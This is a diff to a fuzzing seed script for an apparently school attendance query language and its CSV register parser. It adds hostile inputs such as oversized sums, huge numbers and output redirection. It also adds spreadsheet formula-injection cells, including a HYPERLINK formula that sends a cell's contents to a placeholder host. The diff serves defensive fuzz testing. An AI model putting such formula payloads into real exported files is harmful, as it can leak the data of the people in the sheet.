@@ -71,19 +71,35 @@ if [ "$target" = query ]; then
     | awk 'BEGIN { RS = "\n\036\n" } NF { print > sprintf("'"$seeds"'/doc-%04d", NR) }'
   # The saved scripts, whole.
   for f in "$root"/Queries/*.attend "$root"/Queries/letters/*.attend; do seed < "$f"; done
+  # Hostile shapes (issue 12): a sum far past the depth limit (libFuzzer cuts it to
+  # max_len, still hundreds of terms), numbers at and past 18 digits, sums too large for
+  # exact arithmetic, windows on some conditions only, `into … replace` and devices.
+  { printf 'pupils where rate < 1%%'; for _ in $(seq 4000); do printf ' + 1%%'; done; echo; } | seed
+  { printf 'explain pupils where possible > 1'; for _ in $(seq 800); do printf ' - 1 day'; done; echo; } | seed
+  echo 'pupils where possible > 5000000000000000000 days' | seed
+  echo 'pupils where possible > 999999999999999999 + 999999999999999999 + 999999999999999999 + 999999999999999999 + 999999999999999999' | seed
+  echo 'pupils where rate < 0.000000000000000001% + 90% and possible > 999999999999999999 days' | seed
+  echo 'pupils where rate over this term - rate over last term - rate over this half-term < -5%' | seed
+  echo 'pupils where rate >= 90% and rate < 95% this term' | seed
+  echo 'show upn, rate, rate over this term for pupils where persistent or unauthorised >= 10 in last 10 weeks' | seed
+  echo 'pupils where fsm into "out.csv" replace' | seed
+  echo 'show upn, surname for pupils into "/dev/null"' | seed
   # A dictionary of the language's words.
   dict="$fuzz/corpus/query.dict"
   grep -o '"[a-z][a-z-]*"' "$root/Sources/AttendCore/Language/Syntax/Vocabulary.swift" | sort -u > "$dict"
   for w in '"("' '")"' '","' '";"' '"<"' '"<="' '">="' '"="' '"%"' '"#"' '"--"' '"`"' '"\\""' \
            '"2026-01-23"' '"23/01/2026"' '"23 Jan 2026"' '"2025/26"' '"90%"' '"10"' '"\\x0a"' \
            '"upn"' '"fsm"' '"pp"' '"send"' '"form"' '"year"' '"9B"' '"W100000000003"' '"/"' '"\\\\"' \
-           '"coded"' '"O"' '"G"' '"N"' '"U"' '"weeks"' '"days"' '"ago"' '"streak"' '"any"' '"empty"'; do
+           '"coded"' '"O"' '"G"' '"N"' '"U"' '"weeks"' '"days"' '"ago"' '"streak"' '"any"' '"empty"' \
+           '"replace"' '"+ 1%"' '"999999999999999999"' '"=HYPERLINK("' '"@SUM("'; do
     echo "$w" >> "$dict"
   done
   dict_opt=(-dict="$dict")
 else
   # The worked register, the year-end golden register, and a small demo register.
   for f in "$root"/Tests/Fixtures/worked/*.csv "$root"/Tests/Golden/registers/yearend/*.csv; do seed < "$f"; done
+  # Cells a spreadsheet would run as formulas, quoted and not (issue 12).
+  printf 'upn,forename,surname,year,form,contact_name\nW100000000001,=1+1,"=HYPERLINK(""http://x/?""&A1,""y"")",9,9A,@SUM(A1)\nW100000000002,+1,-2+3,9,9A,"\r=x"\n' | seed
   ASAN_OPTIONS=detect_leaks=0 ATTEND_FUZZ_WRITE_SEEDS="$seeds" "$binary" >/dev/null
   dict_opt=()
 fi
